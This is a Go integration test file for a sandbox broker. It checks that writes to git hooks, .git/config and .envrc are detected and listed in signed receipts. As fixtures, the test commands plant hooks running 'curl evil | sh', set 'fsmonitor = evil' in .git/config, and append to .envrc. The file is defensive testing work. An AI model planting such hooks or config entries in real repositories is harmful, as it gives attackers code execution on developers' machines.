//go:build linux

package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"warrant/wire"
)

// TestBrokerProtectedPathsChangesAreListed: a target that writes
// .git/hooks/pre-commit and edits .git/config in its workspace — files
// git runs and obeys outside any sandbox — cannot be stopped (they are in
// the writable scope), so each change is detected: `broker run --json`
// lists both with their before and after states, the signed receipt
// carries them (protectedBy "detect"), `receipts show` prints them and
// `receipts verify` passes. A run that touches none lists none.
func TestBrokerProtectedPathsChangesAreListed(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skipf("skip: git is not on this host: %v", err)
	}
	d := shared(t)
	a := d.newAgent(t)
	if out, err := exec.Command("git", "init", "-q", a.WS).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	config := filepath.Join(a.WS, ".git", "config")
	before, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}

	_, res, code := a.run(wire.ProfileShort, "/bin/sh", "-c",
		"printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && "+
			"printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config")
	if code != 0 || res.Outcome != "exited" {
		t.Fatalf("the target must run: exit %d, %+v", code, res)
	}
	changed := map[string]wire.ProtectedChange{}
	for _, c := range res.ProtectedChanges {
		changed[c.Path] = c
	}
	hook, cfg := changed[".git/hooks/pre-commit"], changed[".git/config"]
	if hook.Before != "absent" || !strings.HasPrefix(hook.After, "sha256:") || !strings.HasSuffix(hook.After, "mode:0755") {
		t.Errorf("the new hook is listed as %+v", hook)
	}
	if !strings.HasPrefix(cfg.Before, "sha256:") || !strings.HasPrefix(cfg.After, "sha256:") || cfg.Before == cfg.After {
		t.Errorf("the edited config is listed as %+v", cfg)
	}
	if len(res.ProtectedChanges) != 2 {
		t.Errorf("protected changes %+v, want the hook and the config alone", res.ProtectedChanges)
	}
	after, _ := os.ReadFile(config)
	if string(after) == string(before) {
		t.Fatal("the config was not edited: the test proves nothing")
	}

	rc := d.Receipt(*res.ReceiptID) // requires that it verifies
	if rc.Protected == nil || rc.Protected.By != "detect" || len(rc.Protected.Changes) != 2 || rc.Protected.Checked == 0 {
		t.Fatalf("receipt protected %+v", rc.Protected)
	}
	show, code := d.CLI("receipts", "show", *res.ReceiptID)
	if code != 0 || !strings.Contains(show, ".git/hooks/pre-commit: absent -> sha256:") || !strings.Contains(show, "detected, not prevented") {
		t.Fatalf("receipts show (exit %d) does not list the changes:\n%s", code, show)
	}
	if out, code := d.CLI("receipts", "verify"); code != 0 {
		t.Fatalf("receipts verify: exit %d\n%s", code, out)
	}

	_, res, code = a.run(wire.ProfileShort, "/bin/sh", "-c", "echo quiet > notes.txt")
	if code != 0 || len(res.ProtectedChanges) != 0 {
		t.Fatalf("a run that touches no protected path: exit %d, changes %+v", code, res.ProtectedChanges)
	}
	if rc := d.Receipt(*res.ReceiptID); rc.Protected == nil || len(rc.Protected.Changes) != 0 {
		t.Fatalf("its receipt: %+v", rc.Protected)
	}
}

// TestBrokerProtectedPathsChangesAreListedAsUser: the same detection for
// an ordinary user's embedded broker (uid 65534).
func TestBrokerProtectedPathsChangesAreListedAsUser(t *testing.T) {
	u := asNobody(t)
	if err := os.MkdirAll(filepath.Join(u.ws, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(u.ws, ".envrc"), []byte("export A=1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	u.chownHome()
	res := u.run("/bin/sh", "-c", "echo 'curl evil | sh' > .git/hooks/post-checkout && echo 'export EVIL=1' >> .envrc")
	if res.Outcome != "exited" || res.ExitCode == nil || *res.ExitCode != 0 {
		t.Fatalf("the target must run: %s %+v\n%s", res.Outcome, res.Error, res.Stderr.Text)
	}
	got := map[string]wire.ProtectedChange{}
	for _, c := range res.ProtectedChanges {
		got[c.Path] = c
	}
	if c := got[".git/hooks/post-checkout"]; c.Before != "absent" || !strings.HasPrefix(c.After, "sha256:") {
		t.Errorf("the new hook: %+v", c)
	}
	if c := got[".envrc"]; !strings.HasPrefix(c.Before, "sha256:") || c.After == c.Before {
		t.Errorf("the edited .envrc: %+v", c)
	}
	if len(res.ProtectedChanges) != 2 {
		t.Errorf("changes %+v, want the hook and .envrc alone", res.ProtectedChanges)
	}
}
